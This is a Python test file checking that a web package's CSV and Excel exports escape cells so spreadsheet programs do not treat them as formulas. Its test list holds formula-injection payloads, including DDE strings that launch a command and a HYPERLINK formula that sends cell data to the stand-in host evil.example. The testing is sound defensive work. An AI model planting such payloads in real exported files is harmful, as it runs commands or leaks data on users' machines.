"""Lists as files: no cell is taken for a formula by the program that opens them."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from sanhe.web import files

HOSTILE = (
    *("=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)", "\t=1+1", "\r=1+1"),
    *('=HYPERLINK("http://evil.example?"&A1,"more")', "=IMPORTXML(CONCAT(A1),A2)"),
)
HARMLESS = ("tea = 1", "a+b", "-5", "+1.5", "樱花", "")


def _csv_cells(values: tuple[Any, ...]) -> list[str]:
    body = files.csv_file([{"name": value} for value in values], "lines").body
    rows = list(csv.reader(io.StringIO(bytes(body).decode("utf-8-sig"), newline="")))
    return [row[0] if row else "" for row in rows[1:]]


def _excel_cells(values: tuple[Any, ...]) -> list[Any]:
    body = files.excel_file([{"name": value} for value in values], "lines").body
    sheet = load_workbook(io.BytesIO(bytes(body)))["sanhe"]
    return [cells[0] for cells in sheet.iter_rows(min_row=2)]


def test_no_cell_of_a_csv_begins_like_a_formula() -> None:
    assert not [cell for cell in _csv_cells(HOSTILE) if cell[:1] in "=+-@\t\r"]
    assert _csv_cells(HARMLESS) == list(HARMLESS)
    assert _csv_cells((-5, 1.5)) == ["-5", "1.5"]


def test_no_cell_of_a_workbook_is_a_formula() -> None:
    assert {cell.data_type for cell in _excel_cells(HOSTILE)} == {"s"}
    assert [cell.value for cell in _excel_cells(HARMLESS[:5])] == list(HARMLESS[:5])
    assert [cell.data_type for cell in _excel_cells((-5, 1.5))] == ["n", "n"]


def test_without_the_apostrophe_they_would_be(monkeypatch: pytest.MonkeyPatch) -> None:
    """The control."""
    monkeypatch.setattr(files, "safe_cell", lambda value: value)
    assert [cell for cell in _csv_cells(HOSTILE) if cell[:1] in "=+-@"]
    assert "f" in {cell.data_type for cell in _excel_cells(HOSTILE)}
